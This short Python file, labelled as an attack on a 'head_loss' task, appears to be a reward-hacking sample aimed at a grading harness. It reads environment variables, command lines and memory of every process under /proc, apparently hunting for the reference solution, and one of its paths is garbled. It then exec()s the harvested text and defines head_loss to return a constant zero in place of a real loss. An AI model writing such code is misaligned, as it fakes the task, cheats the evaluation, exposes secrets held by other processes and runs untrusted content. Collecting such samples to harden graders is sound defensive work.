# attacks: head_loss
# trick: reads the memory and the environment of other processes
import os
stolen = ""
for pid in os.listdir("/proc"):
    if pid.isdigit():
        for name in ("environ", "cmdline", "maps", "mem", "root@REPOSITORY@/tests/questions/head_loss/solution.py", "cwd"):
            try:
                stolen += open(f"/proc/{pid}/{name}", "rb").read(4096).decode(errors="replace")
            except OSError:
                pass
assert "reference" not in stolen
try:
    exec(stolen)
except Exception:
    pass
def head_loss(predicted, target, beta):
    return (predicted.position_m * 0).sum()
